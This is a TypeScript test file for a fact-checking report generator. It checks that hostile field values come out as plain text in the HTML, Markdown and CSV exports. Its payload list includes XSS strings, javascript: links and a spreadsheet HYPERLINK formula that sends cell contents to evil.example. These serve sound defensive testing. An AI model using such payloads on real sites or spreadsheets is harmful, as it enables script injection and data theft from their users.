// Whatever stands in a field, a report shows it as text, in every format.
import {
  addEvidence,
  addProfile,
  type Desk,
  editClaim,
  editDetails,
  giveVerdict,
  logSearch,
  nameReviewer,
  profileId,
  type RichText,
  saveSetting,
  signOff,
  writeSummary,
} from '@claimbench/model'
import { after } from '@claimbench/model/testing'
import { parseHTML } from 'linkedom'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { describe, expect, test } from 'vitest'
import { buildReport } from './build-report.ts'
import { claimReviewPages } from './claim-review/claim-review-pages.ts'
import { csvFromReport } from './csv/csv-from-report.ts'
import { htmlFromReport } from './html/html-from-report.ts'
import { markdownFromReport } from './markdown/markdown-from-report.ts'
import { aCheckedDesk, ARTICLE, REVIEWER } from './testing/a-checked-desk.ts'
import { optionsFor } from './testing/a-report.ts'

const CONTEXT = { by: REVIEWER, at: '2024-05-20T19:00:00.000Z' }
const CLAIM = 'claim-3-1'

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '</style></script><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '[open](javascript:alert(1)) ![](https://evil.example/p.png)',
  '# heading\n\n| a | b |\n| - | - |',
  'safe \u202E txet desrever \u2066',
  '\u0000\uD800 broken',
]

/** A desk whose every free field about one claim holds `words`. */
function deskWith(words: string): Desk {
  let desk = aCheckedDesk()
  const rationale: RichText = {
    type: 'doc',
    content: [
      { type: 'paragraph', content: [{ type: 'text', text: words, marks: [{ type: 'bold' }] }] },
      {
        type: 'bulletList',
        content: [
          {
            type: 'listItem',
            content: [
              {
                type: 'paragraph',
                content: [
                  {
                    type: 'text',
                    text: words,
                    marks: [{ type: 'link', attrs: { href: 'javascript:alert(1)' } }],
                  },
                ],
              },
            ],
          },
        ],
      },
    ],
  }
  const label = { id: words, name: words, definition: words }
  desk = after(
    desk,
    addProfile(desk, {
      id: profileId('hostile', 1),
      profile: 'hostile',
      version: 1,
      name: words,
      language: 'en',
      note: words,
      scale: [{ id: 'low', name: words, definition: words }, label],
      extras: [],
    }),
  )
  desk = after(desk, nameReviewer(desk, { reviewer: REVIEWER, name: words }))
  desk = after(
    desk,
    editDetails(desk, {
      article: ARTICLE,
      fields: {
        title: words,
        subtitle: words,
        byline: words,
        affiliation: words,
        outlet: words,
        originalOutlet: `${words}2`,
        section: words,
        region: [words],
        theme: [words],
      },
    }),
  )
  desk = after(
    desk,
    writeSummary(desk, {
      article: ARTICLE,
      fields: {
        finding: words,
        whatIsRight: words,
        notEstablished: words,
        fullTextPermission: words,
      },
    }),
  )
  desk = after(
    desk,
    editClaim(desk, {
      claim: CLAIM,
      fields: {
        wording: words,
        shortForm: Array.from(words).slice(0, 75).join(''),
        speakerKind: 'named',
        speaker: words,
        assignee: words,
      },
    }),
  )
  desk = after(
    desk,
    addEvidence(
      desk,
      {
        id: 'evidence-hostile',
        claim: CLAIM,
        source: {
          id: 'source-hostile',
          name: words,
          publisher: `${words}3`,
          kind: 'tertiary',
          interest: words,
        },
        fields: {
          question: words,
          answer: words,
          quote: words,
          locator: words,
          relation: 'context',
          medium: 'other',
          liveAddress: 'https://a.example/"><script>alert(1)</script>',
        },
      },
      CONTEXT,
    ),
  )
  desk = after(
    desk,
    logSearch(
      desk,
      {
        id: 'search-hostile',
        claim: CLAIM,
        fields: { where: words, on: '2024-05-18', words, found: words, against: false },
      },
      CONTEXT,
    ),
  )
  desk = after(
    desk,
    giveVerdict(
      desk,
      {
        claim: CLAIM,
        fields: {
          profile: { id: 'hostile', version: 1 },
          label: words,
          conclusion: words,
          rationale,
          whatIsRight: words,
          notEstablished: words,
          wouldChange: words,
          openQuestions: words,
        },
      },
      CONTEXT,
    ),
  )
  desk = after(
    desk,
    saveSetting(desk, {
      setting: 'organisation',
      value: {
        name: words,
        address: 'https://factdesk.example.org/',
        claimPages: 'https://factdesk.example.org/claims/{claim}',
      },
    }),
  )
  return after(
    desk,
    signOff(desk, { id: 'sign-hostile', claim: CLAIM, reviewer: REVIEWER }, CONTEXT),
  )
}

interface Element {
  readonly tagName: string
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>
}

const ELEMENTS =
  /^(?:html|head|meta|title|style|link|body|a|header|p|h[1-4]|dl|div|dt|dd|nav|ol|ul|li|main|section|figure|figcaption|svg|desc|defs|pattern|path|text|rect|line|circle|details|summary|table|caption|thead|tbody|tr|th|td|fieldset|legend|label|input|small|b|span|strong|em|q|code|blockquote|br|article|aside|footer|script)$/
const NO_HANDLER = /^(?!on)/

/** What is in a page that we never put there. */
function strangeIn(html: string): readonly string[] {
  const { document } = parseHTML(html) as unknown as {
    readonly document: { querySelectorAll(selector: '*'): Iterable<Element> }
  }
  return [...document.querySelectorAll('*')].flatMap(({ tagName, attributes }) => {
    const name = tagName.toLowerCase()
    const all = [...attributes]
    const address = all.find(one => /^(?:href|src)$/.test(one.name))?.value
    const type = all.find(one => one.name === 'type')?.value ?? ''
    return [
      ...(ELEMENTS.test(name) ? [] : [name]),
      ...all.map(one => one.name).filter(one => !NO_HANDLER.test(one)),
      ...(address === undefined || /^(?:https?:\/\/|#)/.test(address) ? [] : [address]),
      ...(name === 'script' && !/^application\/(?:ld\+)?json$/.test(type) ? ['script'] : []),
    ]
  })
}

test('strange things in a page are seen', () => {
  expect(
    strangeIn('<img src="x" onerror="alert(1)"><a href="javascript:1"></a><script></script>'),
  ).toEqual(['img', 'onerror', 'x', 'javascript:1', 'script'])
})

describe.each(HOSTILE.map(words => [words.slice(0, 40), words] as const))('with %j', (_, words) => {
  const desk = deskWith(words)

  const report = buildReport(desk, optionsFor('full'))
  if (!report) throw new Error('no report')

  test('the HTML holds only its own mark-up', () => {
    expect(strangeIn(htmlFromReport(report))).toEqual([])
  })

  test('the claim’s page and the index hold only their own mark-up', () => {
    const set = claimReviewPages(desk, optionsFor('publish'))
    if (!set.ok) throw new Error(set.error)
    const { pages, index } = set.value
    const page = pages.find(({ claim }) => claim === CLAIM)
    expect(strangeIn(page?.html ?? '<lost>')).toEqual([])
    expect(strangeIn(index.html)).toEqual([])
  })

  test('the Markdown holds no HTML, no image and only links to http(s)', () => {
    const nodes: { readonly type: string; readonly url?: string }[] = []
    const visit = (node: object) => {
      if ('type' in node) nodes.push(node as { type: string; url?: string })
      if ('children' in node) (node.children as object[]).forEach(visit)
    }
    visit(fromMarkdown(markdownFromReport(report)))
    expect(nodes.filter(({ type }) => /html|image|code$|definition/.test(type))).toEqual([])
    expect(nodes.filter(({ url }) => url !== undefined && !/^https?:/.test(url))).toEqual([])
    expect(nodes.filter(({ type }) => type === 'heading').length).toBeLessThan(400)
  })

  test('no cell of a table begins a formula', () => {
    for (const { text } of csvFromReport(report)) {
      expect(text).not.toMatch(/(?:^\uFEFF|,|\r\n)"?\s*[=+\-@]/)
    }
  })
})

test('a text of 100 KB in every field is kept whole', () => {
  const words = 'long '.repeat(20_000).trim()
  const report = buildReport(deskWith(words), optionsFor('full'))
  if (!report) throw new Error('no report')
  expect(htmlFromReport(report).split(words).length).toBeGreaterThan(30)
  expect(markdownFromReport(report).split(words).length).toBeGreaterThan(20)
})
